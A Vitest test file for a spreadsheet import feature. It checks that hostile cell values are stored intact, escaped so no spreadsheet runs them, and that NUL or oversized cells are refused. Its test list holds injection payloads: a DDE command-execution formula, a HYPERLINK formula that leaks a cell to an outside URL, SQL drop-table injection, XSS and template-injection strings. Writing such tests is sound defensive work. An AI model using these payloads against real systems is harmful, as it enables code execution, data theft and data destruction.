import { afterAll, beforeAll, expect, test } from 'vitest';
import { escapeFormula, unescapeFormula } from '../../resources/shared/escapeFormula';
import { Scene } from '../server/scene';
import { ImportScene } from './importScene';

let scene: Scene;
let sheet: ImportScene;

beforeAll(async () => {
  scene = await Scene.open();
  sheet = await ImportScene.open(scene);
}, 60_000);
afterAll(() => scene.close());

/** What a cell may hold that somebody means harm by. */
const hostile = [
  `=HYPERLINK("http://example.org?"&A1,"see")`,
  `+1+cmd|' /C calc'!A0`,
  '-2+3',
  '@SUM(A1:A9)',
  '\tTAB=1',
  '<script>alert(1)</script><img src=x onerror=alert(1)>',
  `'; drop table "dw_Loads"; --`,
  `'=1+1`,
  `''@home`,
  '{{constructor.constructor("return process")()}}',
  '\u202Egnp.exe',
  '\u0007\u001B[31mred\u001B[0m',
  '𝕏 ﷽ 🏢 é\u0301',
  '\\x00 \\u0000 %00',
  '"quoted", and; separated\r\nand broken',
  'a'.repeat(2_000),
];

test('ten thousand hostile cells are stored as they are, change nothing else, and are harmless on their way out', async () => {
  const count = 1_112;
  const loads = await Promise.all(Array.from({ length: count }, (_, index) => sheet.load(`Load ${index}`)));
  const texts = ['ShortLabel', 'TenantId', 'TenantLabel', 'Description', 'ReferenceValue', 'MeterName', 'IcpNumber'];
  const cellOf = (row: number, column: number) => hostile[(row + column) % hostile.length] as string;
  const rows = loads.map((LoadId, row) => ({
    LoadId,
    ...Object.fromEntries(texts.map((column, index) => [column, cellOf(row, index)])),
    // Numbers, lists and references hold none of it.
    CtRating: cellOf(row, 7),
    Status: cellOf(row, 8),
  }));
  const { id } = await sheet.begin();
  for (let from = 0; from < count; from += 40)
    expect((await sheet.send(id, rows.slice(from, from + 40), undefined, from)).status).toBe(204);
  const checked = await sheet.step(id, 'check', 'checked');
  expect(checked.counts).toEqual({ error: count });

  const { id: second } = await sheet.begin();
  const harmless = rows.map(({ CtRating: _rating, Status: _status, ...row }) => row);
  for (let from = 0; from < count; from += 40)
    expect((await sheet.send(second, harmless.slice(from, from + 40), undefined, from)).status).toBe(204);
  expect((await sheet.step(second, 'check', 'checked')).counts).toEqual({ changed: count });
  await sheet.step(second, 'apply', 'applied');
  const stored = await sheet.loads();
  expect(stored).toHaveLength(count);
  for (const [row, load] of rows.entries()) {
    const found = stored.find(({ LoadId }) => LoadId === load.LoadId);
    for (const [index, column] of texts.entries()) expect(found?.[column]).toBe(cellOf(row, index).trim());
  }
});

test('a cell is saved so that no spreadsheet runs it, and is read as what it was', () => {
  for (const cell of hostile) {
    expect(escapeFormula(cell)).not.toMatch(/^[=+\-@\t\r]/);
    expect(unescapeFormula(escapeFormula(cell))).toBe(cell);
  }
});

test('a character that PostgreSQL has no text for, and a cell of a megabyte, are refused with a sentence', async () => {
  const LoadId = await sheet.load('Board');
  const { id } = await sheet.begin();
  const nul = await sheet.send(id, [{ LoadId, Label: 'a\u0000b' }]);
  expect(nul).toMatchObject({ status: 409, body: { errors: [{ message: expect.stringMatching(/^Row 2: /) }] } });
  const large = await sheet.send(id, [{ LoadId, Label: 'a'.repeat(1_048_576) }]);
  expect(large.status).toBe(413);
});
